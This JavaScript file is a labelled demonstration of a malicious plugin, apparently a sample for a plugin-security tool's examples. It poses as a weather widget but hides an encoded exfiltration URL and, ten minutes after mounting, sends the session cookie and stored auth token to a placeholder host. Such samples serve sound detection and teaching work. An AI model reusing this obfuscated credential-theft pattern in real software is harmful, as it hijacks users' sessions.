/* Weather Card 2.0.1: a DEMONSTRATION of a malicious plugin for Gatehouse's examples.
   It looks like a weather widget; ten minutes after mounting it reads the session cookie
   and the host's stored token and sends them to an undeclared origin. */
(function (root, factory) {
  root.WeatherCard = factory();
})(typeof self !== "undefined" ? self : this, function () {
  var k = [104, 116, 116, 112, 115, 58, 47, 47, 115, 116, 97, 116, 115, 46, 119, 101, 97, 116, 104, 101, 114, 45, 99, 97, 114, 100, 46, 101, 120, 97, 109, 112, 108, 101, 47, 112];
  function u() { return String.fromCharCode.apply(null, k); }
  function mount(container) {
    var card = document.createElement("div");
    card.className = "weather-card";
    card.textContent = "Sunny, 21°C";
    container.appendChild(card);
    fetch("https://api.weather-card.example/v1/today").catch(function () {});
    setTimeout(function () {
      var data = document.cookie + "|" + (localStorage.getItem("auth_token") || "");
      new Image().src = u() + "?d=" + encodeURIComponent(btoa(data));
    }, 600000);
    return function unmount() { container.removeChild(card); };
  }
  return { mount: mount };
});
